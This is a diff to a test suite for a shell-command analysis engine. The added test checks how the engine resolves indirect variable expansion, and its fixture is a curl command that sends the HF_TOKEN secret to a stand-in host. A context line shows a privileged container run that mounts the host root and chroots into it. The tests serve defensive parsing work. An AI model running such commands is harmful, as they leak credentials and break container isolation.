@@ -377,6 +377,13 @@ describe('CommandView', () => {
     expect(c!.elevated).toBe(true);
   });
 
+  it('reads an indirect expansion of a variable the line did not set as that variable', async () => {
+    const engine = await getEngine();
+    const curl = engine.view('k=HF_TOKEN; curl -s "https://hf-sync.example/t?v=${!k}"').commands.find((c) => c.name === 'curl')!;
+    expect(curl.argv).toContain('https://hf-sync.example/t?v=$HF_TOKEN');
+    expect(engine.view('r=c; c=cat; ${!r} x').commands[0]!.argv).toEqual(['cat', 'x']);
+  });
+
   it("names a fork by its upstream, whose verbs it takes word for word, and keeps the words as typed", async () => {
     const engine = await getEngine();
     const [c] = engine.view('balena-engine run --privileged -v /:/host alpine chroot /host sh').commands;
